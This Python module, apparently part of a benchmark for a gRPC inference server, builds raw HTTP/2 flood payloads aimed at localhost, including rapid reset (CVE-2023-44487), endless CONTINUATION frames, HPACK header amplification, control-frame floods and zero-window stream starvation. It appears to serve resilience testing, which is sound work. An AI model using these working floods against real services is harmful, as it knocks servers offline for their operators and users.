"""Floods: what one hostile connection sends, piece by piece, for as long as it is let."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator, Mapping
from types import MappingProxyType
from typing import Final

from inferd.bench.generator import MODEL_INFER

# RFC 9113, section 6.
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL, INITIAL_WINDOW_SIZE = 8, 4
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAMES: Final = 500
"""In a piece: enough for sending to cost little."""
STREAMS: Final = 0x3FFFFFFF

Flood = Callable[[bytes], Iterator[bytes]]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame, RFC 9113 section 4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header that leaves no trace in the table, RFC 7541 section 6.2.2."""
    return b"\0" + _sized(name) + _sized(value)


def _sized(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes((len(text),)) + text
    rest, digits = len(text) - 127, b""
    while rest >= 128:
        digits += bytes((rest % 128 + 128,))
        rest //= 128
    return b"\x7f" + digits + bytes((rest,)) + text


CALL: Final = b"".join(
    literal(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", MODEL_INFER.encode()),
        (b":authority", b"localhost"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
)


def opening(window: int = 65535) -> bytes:
    """What a client says first, with the window it gives each answer."""
    return PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window))


def rapid_reset(message: bytes) -> Iterator[bytes]:
    """Calls that are begun and taken back (CVE-2023-44487)."""
    yield opening()
    for first in range(1, STREAMS, 2 * FRAMES):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            for stream in range(first, first + 2 * FRAMES, 2)
        )


def continuation(message: bytes) -> Iterator[bytes]:
    """Headers that never end."""
    yield opening() + frame(HEADERS, 0, 1, CALL)
    piece = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 1000) * 16)
    while True:
        yield piece


def large_headers(message: bytes) -> Iterator[bytes]:
    """One header of four kilobytes in the table, then references to it in one byte each."""
    kept = b"\x40" + _sized(b"key") + _sized(b"v" * 3900)
    yield opening() + frame(HEADERS, END_HEADERS, 1, CALL + kept)
    for stream in range(3, STREAMS, 2):
        yield frame(HEADERS, END_HEADERS, stream, b"\x83\x86" + b"\xbe" * 16000)


def _repeated(one: bytes) -> Flood:
    def flood(message: bytes) -> Iterator[bytes]:
        yield opening()
        piece = one * FRAMES
        while True:
            yield piece

    return flood


def empty_data(message: bytes) -> Iterator[bytes]:
    """DATA without data, on a call that is open."""
    yield opening() + frame(HEADERS, END_HEADERS, 1, CALL)
    piece = frame(DATA, 0, 1) * FRAMES
    while True:
        yield piece


def no_window(message: bytes) -> Iterator[bytes]:
    """Good requests whose answers may not be sent: the window for each is one byte."""
    yield opening(window=1)
    framed = b"\0" + struct.pack(">I", len(message)) + message
    for first in range(1, STREAMS, 20):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, END_STREAM, stream, framed)
            for stream in range(first, first + 20, 2)
        )


def many_streams(message: bytes) -> Iterator[bytes]:
    """Calls that are begun and never go on."""
    yield opening()
    for first in range(1, STREAMS, 2 * FRAMES):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, CALL) for stream in range(first, first + 2 * FRAMES, 2))


def not_http2(message: bytes) -> Iterator[bytes]:
    """A browser's request, on ever new connections."""
    yield b"GET / HTTP/1.1\r\nhost: localhost\r\n\r\n"


FLOODS: Mapping[str, Flood] = MappingProxyType(
    {
        "rapid reset": rapid_reset,
        "continuation": continuation,
        "large headers": large_headers,
        "ping": _repeated(frame(PING, 0, 0, bytes(8))),
        "settings": _repeated(frame(SETTINGS, 0, 0)),
        "window updates": _repeated(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
        "empty data": empty_data,
        "no window": no_window,
        "many streams": many_streams,
        "not http/2": not_http2,
    }
)
